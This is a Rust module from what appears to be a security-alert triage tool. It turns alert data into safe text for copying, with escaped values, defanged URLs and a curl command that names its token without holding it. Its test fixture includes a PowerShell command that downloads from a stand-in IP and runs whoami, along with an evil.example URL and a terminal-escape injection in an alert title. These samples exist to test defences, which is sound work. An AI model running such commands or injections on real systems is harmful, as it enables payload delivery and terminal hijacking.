//! What can be copied of an alert, each as one text.
//!
//! Values come as they are shown, not as they were sent: what is pasted may be pasted
//! into a shell, and a line break in a command line would run it.

use percent_encoding::AsciiSet;
use percent_encoding::NON_ALPHANUMERIC;
use percent_encoding::utf8_percent_encode;

use crate::app::alert_book::AlertBook;
use crate::app::alert_book::AlertKey;
use crate::app::alert_book::Row;
use crate::app::kql;
use crate::app::summary;
use crate::domain::alert::AlertId;
use crate::domain::detail::AlertDetail;
use crate::domain::detail::Evidence;
use crate::domain::detail::EvidenceKind;
use crate::domain::text::Text;
use crate::domain::text::shown;
use crate::wire::detail;

/// Addresses that an alert's id is put behind.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Places {
    /// Of the portal; none where the service has none.
    pub portal: Option<String>,
    /// Of the alerts, at the service.
    pub alerts: String,
    /// The folder for exports; none for the working directory. `~/` is the operator's own.
    pub exports: Option<String>,
}

impl Places {
    /// Where people read this alert. Made here and never taken from the alert itself:
    /// whoever writes alerts must not say where an analyst goes.
    pub fn link(&self, id: &AlertId) -> Option<String> {
        let portal = self.portal.as_ref()?;
        Some(format!("{portal}/alerts/{}", in_a_path(id)))
    }
}

/// What stands in an address as itself.
const ESCAPED: &AsciiSet = &NON_ALPHANUMERIC
    .remove(b'-')
    .remove(b'_')
    .remove(b'.')
    .remove(b'~');

fn in_a_path(id: &AlertId) -> String {
    utf8_percent_encode(id.as_str(), ESCAPED).to_string()
}

/// Something to copy.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Piece {
    Id,
    Hash,
    Command,
    Device,
    User,
    Query,
    Link,
    Summary,
    Curl,
}

impl Piece {
    /// What a notice calls it.
    pub const fn word(self) -> &'static str {
        match self {
            Self::Id => "id",
            Self::Hash => "hash",
            Self::Command => "command line",
            Self::Device => "device",
            Self::User => "user",
            Self::Query => "hunting query",
            Self::Link => "portal link",
            Self::Summary => "summary",
            Self::Curl => "curl command",
        }
    }
}

/// An alert with all that is known of it.
pub struct Subject<'a> {
    pub book: &'a AlertBook,
    pub row: &'a Row,
    pub detail: AlertDetail,
    pub places: &'a Places,
}

impl<'a> Subject<'a> {
    /// Reads the alert whole.
    pub fn of(book: &'a AlertBook, key: AlertKey, places: &'a Places) -> Option<Self> {
        let row = book.row(key)?;
        let mut detail = detail::read(&book.original(key)?);
        if let Some(with_evidence) = book.original_with_evidence(key) {
            detail.evidence = detail::read_evidence(&with_evidence);
        }
        Some(Self {
            book,
            row,
            detail,
            places,
        })
    }

    /// The text of a piece, or why there is none.
    pub fn text(&self, piece: Piece) -> Result<String, &'static str> {
        let some = |text: Option<&Text>, none: &'static str| {
            let text = text.filter(|text| !text.is_empty());
            text.map(|text| text.shown().into_owned()).ok_or(none)
        };
        match piece {
            Piece::Id => Ok(shown(self.row.id.as_str()).into_owned()),
            Piece::Hash => some(self.hash(), "no hash is known of this alert"),
            Piece::Command => some(
                self.process().and_then(|process| fact(process, "command")),
                "no command line is known of this alert",
            ),
            Piece::Device => some(
                Some(self.book.text(self.row.device)),
                "this alert names no device",
            ),
            Piece::User => some(
                [&self.detail.user, self.book.text(self.row.user)]
                    .into_iter()
                    .find(|user| !user.is_empty()),
                "this alert names no user",
            ),
            Piece::Query => {
                let device = self.book.text(self.row.device);
                Ok(kql::query(self.row, &self.detail, device))
            }
            Piece::Link => self.link().ok_or(NO_PORTAL),
            Piece::Summary => Ok(summary::markdown(self)),
            Piece::Curl => Ok(self.curl()),
        }
    }

    /// Where people read it.
    pub fn link(&self) -> Option<String> {
        self.places.link(&self.row.id)
    }

    /// The process that fired: the one with most to say.
    pub fn process(&self) -> Option<&Evidence> {
        self.pieces(EvidenceKind::Process).max_by_key(|process| {
            fact(process, "command").map_or(0, |command| command.original().len())
        })
    }

    fn pieces(&self, kind: EvidenceKind) -> impl Iterator<Item = &Evidence> {
        let evidence = self.detail.evidence.iter();
        evidence.filter(move |piece| piece.kind == kind)
    }

    /// Of the first file that has one, else of the process: that is often the system's own.
    fn hash(&self) -> Option<&Text> {
        ["sha256", "sha1"].into_iter().find_map(|name| {
            let files = self.pieces(EvidenceKind::File);
            files
                .chain(self.process())
                .find_map(|piece| fact(piece, name))
        })
    }

    /// The token is named and never there.
    fn curl(&self) -> String {
        let address = format!("{}/{}", self.places.alerts, in_a_path(&self.row.id));
        let quoted = shown(&address).replace('\'', r"'\''");
        format!("curl -sS -H \"Authorization: Bearer $TOKEN\" '{quoted}'")
    }
}

/// Why there is no link.
pub const NO_PORTAL: &str = "a demo has no portal";

/// A named fact of a piece of evidence.
pub fn fact<'a>(piece: &'a Evidence, name: &str) -> Option<&'a Text> {
    let mut facts = piece.facts.iter();
    facts
        .find(|(known, _)| *known == name)
        .map(|(_, text)| text)
}

#[cfg(test)]
mod tests {
    #![expect(
        clippy::unwrap_used,
        reason = "a test that cannot read its input has failed"
    )]

    use super::*;
    use crate::app::alert_book::Marking;
    use crate::wire::alert;

    const ALERT: &str = r#"{"id":"da'1_-2","severity":"High","status":"New",
        "title":"Tool `x`\u001b[2J","computerDnsName":"dc01.corp.example","machineId":"abc",
        "alertCreationTime":"2026-11-22T14:00:00Z","firstEventTime":"2026-11-22T13:57:41.5Z",
        "lastEventTime":"2026-11-22T13:59:00Z","mitreTechniques":["T1059.001"],
        "relatedUser":{"userName":"roy","domainName":"CORP"},
        "alertWebUrl":"https://evil.example/","evidence":[
        {"entityType":"Process","fileName":"powershell.exe","processId":7,"sha256":"p256",
         "processCommandLine":"powershell -c \"iwr http://203.0.113.9/a\"\nwhoami"},
        {"entityType":"File","fileName":"a.dll","filePath":"c:\\temp","sha1":"f1","sha256":"f256"},
        {"entityType":"Ip","ipAddress":"203.0.113.9"},
        {"entityType":"Url","url":"evil.example/a.b"}]}"#;

    fn text(json: &str, piece: Piece) -> Result<String, &'static str> {
        let mut book = AlertBook::default();
        let absorbed = book.absorb(vec![alert::read(json).unwrap()], Marking::Leave);
        let places = Places {
            portal: Some("https://security.microsoft.com".to_owned()),
            alerts: "https://api.example/api/alerts".to_owned(),
            exports: None,
        };
        let key = *absorbed.new.first().unwrap();
        Subject::of(&book, key, &places).unwrap().text(piece)
    }

    #[test]
    fn each_piece_is_what_it_says_and_acts_on_nothing() {
        for (piece, expected) in [
            (Piece::Id, "da'1_-2"),
            (Piece::Hash, "f256"),
            (
                Piece::Command,
                "powershell -c \"iwr http://203.0.113.9/a\"\\nwhoami",
            ),
            (Piece::Device, "dc01.corp.example"),
            (Piece::User, "CORP\\roy"),
            (
                Piece::Link,
                "https://security.microsoft.com/alerts/da%271_-2",
            ),
            (
                Piece::Curl,
                "curl -sS -H \"Authorization: Bearer $TOKEN\" 'https://api.example/api/alerts/da%271_-2'",
            ),
        ] {
            assert_eq!(text(ALERT, piece).as_deref(), Ok(expected));
        }
    }

    #[test]
    fn what_is_not_there_is_not_copied() {
        let bare = r#"{"id":"a"}"#;
        for piece in [Piece::Hash, Piece::Command, Piece::Device, Piece::User] {
            assert!(text(bare, piece).is_err(), "{piece:?}");
        }
        assert_eq!(
            text(bare, Piece::Query).as_deref(),
            Ok("AlertEvidence\n| where AlertId == 'a'\n| sort by Timestamp asc")
        );
        let only_sha1 = r#"{"id":"a","evidence":[{"entityType":"File","sha1":"f1"}]}"#;
        assert_eq!(text(only_sha1, Piece::Hash).as_deref(), Ok("f1"));
    }

    #[test]
    fn the_query_looks_at_the_device_around_the_events() {
        let query = r"let alert = 'da\'1_-2';
union withsource=Source DeviceProcessEvents, DeviceFileEvents, DeviceNetworkEvents, DeviceRegistryEvents, DeviceLogonEvents, DeviceEvents,
    (AlertEvidence | where AlertId == alert)
| where Timestamp between (datetime(2026-11-22T12:57:41.5Z) .. datetime(2026-11-22T14:59:00Z))
| where DeviceId == 'abc'
| sort by Timestamp asc";
        assert_eq!(text(ALERT, Piece::Query).as_deref(), Ok(query));
    }

    #[test]
    fn the_summary_is_prose_with_nothing_to_click_but_the_portal() {
        let summary = text(ALERT, Piece::Summary).unwrap();
        assert!(!summary.contains("http://") && !summary.contains('\u{1b}'));
        let expected = r#"### high: `Tool 'x'\x1b[2J`

- alert: `da'1_-2`
- portal: <https://security.microsoft.com/alerts/da%271_-2>
- created: 2026-11-22T14:00:00Z
- first event: 2026-11-22T13:57:41.5Z
- status: new
- device: `dc01.corp.example`
- user: `CORP\roy`
- techniques: `T1059.001`

Evidence:

- process `powershell.exe 7`, command `powershell -c "iwr hxxp://203[.]0[.]113[.]9/a"\nwhoami`, sha256 `p256`
- file `a.dll`, path `c:\temp\a.dll`, sha256 `f256`, sha1 `f1`
- address `203[.]0[.]113[.]9`
- url `evil[.]example/a.b`
"#;
        assert_eq!(summary, expected);
    }
}
